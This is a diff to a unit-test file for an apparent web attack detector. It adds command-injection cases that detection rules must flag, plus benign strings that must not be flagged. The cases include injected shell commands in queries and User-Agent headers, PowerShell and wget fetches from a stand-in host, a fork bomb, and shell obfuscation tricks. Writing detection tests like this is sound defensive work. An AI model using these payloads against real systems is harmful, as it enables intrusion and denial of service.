@@ -5,6 +5,7 @@ from tests.unit.detect.detectors.cases import (
     check_attacks,
     check_fires,
     check_silent,
+    form,
     header,
     query,
 )
@@ -34,6 +35,51 @@ FIRES = {
     "rce.batch": [(query, "for /f %i in (x) do y"), (query, "if exist C:\\x")],
     "rce.perl": [(query, "@{[ go() ]}")],
     "rce.ssi": [(query, '<!--#exec cmd="x" -->')],
+    "rce.more-commands": [
+        (query, ";visudo"),
+        (query, "busybox -c 'date'"),
+    ],
+    "rce.agent-command": [
+        (header, "User-Agent: ;id"),
+        (header, "User-Agent: bash -c id"),
+    ],
+    "rce.batch-statement": [
+        (query, "for /f %i in ('ver') do echo %i"),
+        (query, 'if "%1"=="" goto end'),
+    ],
+    "rce.powershell-fetch": [
+        (query, ";iwr http://x.example/a.ps1"),
+    ],
+    "rce.alias": [
+        (query, "alias ll=id"),
+    ],
+    "rce.fork-bomb": [
+        (query, "b(){ b|b& };b"),
+    ],
+    "rce.brace-words": [
+        (query, "{ls,-la}"),
+        (query, "{/?in/i?,}"),
+    ],
+    "rce.empty-variable": [
+        (query, "uname$x -a"),
+        (query, "ca``t"),
+        (query, ";$z cat $z x"),
+    ],
+    "rce.quoted-command": [
+        (query, ";'wget' http://x.example/a"),
+        (query, "cd /;ls"),
+    ],
+    "rce.program-path": [
+        (query, "/usr/bin/zip -T"),
+    ],
+    "rce.shell-shorthand": [
+        (query, "~+2"),
+        (query, "!-1!-3"),
+        (query, "$[3*4]"),
+    ],
+    "rce.windows-tool": [
+        (query, "1;regedit /e a.reg"),
+    ],
 }
 
 ATTACKS = [
@@ -56,11 +102,18 @@ SILENT = [
     (query, "echo chamber"),
     (query, "| a | b |\n|---|---|\n| id | date |"),
     (header, "User-Agent: Mozilla/5.0 (X11; U; id) Gecko"),
+    (header, "User-Agent: curl/8.5.0"),
+    (header, "User-Agent: Wget/1.21 (linux-gnu)"),
+    (query, "alias names of cities"),
+    (query, "{name}"),
+    (query, "screen and printer"),
+    (form, "body=if (a == b) { echo }"),
+    (query, "usr/share/bin-packing"),
 ]
 
 
 def test_every_rule_fires_on_its_cases() -> None:
-    assert sum(len(cases) for cases in FIRES.values()) == 34
+    assert sum(len(cases) for cases in FIRES.values()) == 55
     check_fires(DETECTOR, FIRES)
 
 
